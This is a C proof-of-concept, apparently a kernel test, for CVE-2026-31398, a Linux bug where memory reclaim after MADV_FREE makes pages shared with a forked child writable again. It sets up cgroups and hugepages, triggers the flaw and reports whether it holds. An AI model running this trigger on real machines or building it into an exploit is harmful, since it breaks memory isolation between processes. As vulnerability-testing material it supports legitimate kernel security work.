// SPDX-License-Identifier: Apache-2.0
/*
 * CVE-2026-31398: reclaim takes a folio of several pages out of a page table, finds it dirty after MADV_FREE, and puts all
 * of it back writable if its first page was, including pages that a child shares.
 *
 * gcc -O1 -static -o cve cve_2026_31398.c; as root, or as the first process of a machine. Needs folios of 64 KiB (since v6.8)
 * and control groups. Three lines: violated or holds.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/reboot.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

enum { PAGE = 4096, FOLIO = 16 * PAGE, UPPER = FOLIO / 2 };

static int put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	ssize_t n = fd < 0 ? -1 : write(fd, text, strlen(text));

	if (fd >= 0)
		close(fd);
	return n < 0 ? -1 : 0;
}

static uint64_t frame(const char *at)
{
	int fd = open("/proc/self/pagemap", O_RDONLY | O_CLOEXEC);
	uint64_t entry = 0;

	if (pread(fd, &entry, 8, (off_t)((uintptr_t)at / PAGE * 8)) != 8)
		entry = 0;
	close(fd);
	return entry >> 63 ? entry & ((1ull << 55) - 1) : 0;
}

static const char *try_it(void)
{
	static char answer[160];
	char *area = mmap(NULL, 2 * FOLIO, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	volatile char *buf = (char *)(((uintptr_t)area + FOLIO - 1) & ~(uintptr_t)(FOLIO - 1));
	int go[2], said[2];
	char seen = 0;
	uint64_t before, after;
	pid_t child;

	memset((char *)buf, 1, FOLIO);
	before = frame((char *)buf + UPPER);
	if (before - frame((char *)buf) != UPPER / PAGE || frame((char *)buf) % 16)
		return "not applicable: no folio of 64 KiB was to be had";
	if (pipe(go) || pipe(said) || madvise((char *)buf, UPPER, MADV_DONTFORK))
		return "could not tell: setup";
	child = fork();
	if (child == 0) {
		char byte;

		if (read(go[0], &byte, 1) == 1) {
			byte = buf[UPPER];
			if (write(said[1], &byte, 1) != 1)
				_exit(1);
		}
		_exit(0);
	}
	madvise((char *)buf, UPPER, MADV_DOFORK);
	if (madvise((char *)buf, FOLIO, MADV_FREE))
		return "could not tell: MADV_FREE";
	buf[0] = 2; /* dirty again: reclaim will have to leave it */
	for (int i = 0; i < 20; i++)
		put("/sys/fs/cgroup/test/memory.reclaim", "1M");
	buf[UPPER] = 7; /* the child must not see this */
	after = frame((char *)buf + UPPER);
	if (write(go[1], "x", 1) != 1 || read(said[0], &seen, 1) != 1)
		return "could not tell: the child";
	waitpid(child, NULL, 0);
	snprintf(answer, sizeof(answer), "%s: the child reads %d; the parent's page %s (%llx, %llx)",
		 seen == 7 ? "violated" : "holds", seen, before == after ? "is still the shared one" : "was copied",
		 (unsigned long long)before, (unsigned long long)after);
	return answer;
}

int main(void)
{
	if (getpid() == 1) {
		mkdir("/proc", 0755), mkdir("/sys", 0755);
		mount("proc", "/proc", "proc", 0, NULL);
		mount("sysfs", "/sys", "sysfs", 0, NULL);
		mount("cgroup2", "/sys/fs/cgroup", "cgroup2", 0, NULL);
	}
	put("/sys/kernel/mm/transparent_hugepage/enabled", "always");
	put("/sys/kernel/mm/transparent_hugepage/hugepages-64kB/enabled", "always");
	put("/sys/fs/cgroup/cgroup.subtree_control", "+memory");
	mkdir("/sys/fs/cgroup/test", 0755);
	if (put("/sys/fs/cgroup/test/cgroup.procs", "0") || access("/sys/fs/cgroup/test/memory.reclaim", W_OK))
		printf("CVE: not applicable: no memory.reclaim\n");
	else
		for (int i = 0; i < 3; i++)
			printf("CVE: %s\n", try_it());
	fflush(stdout);
	if (getpid() == 1)
		reboot(RB_POWER_OFF);
	return 0;
}
